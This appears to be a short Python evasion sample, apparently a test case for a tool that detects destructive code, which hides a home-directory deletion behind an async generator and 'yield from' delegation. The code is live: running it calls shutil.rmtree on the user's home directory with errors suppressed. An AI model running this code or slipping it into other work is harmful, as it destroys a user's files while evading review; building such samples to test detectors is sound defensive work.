# Evasion: deletes the home directory through an async generator. Targets come
# from `yield from`-style delegation in a sync generator wrapped by an async
# generator; the `async for` consumer removes each one.
import asyncio
import shutil
from pathlib import Path


def local_targets():
    yield from [Path("build"), Path.home()]


async def targets():
    for t in local_targets():
        yield t


async def main():
    async for t in targets():
        shutil.rmtree(t, ignore_errors=True)
        await asyncio.sleep(0)


asyncio.run(main())
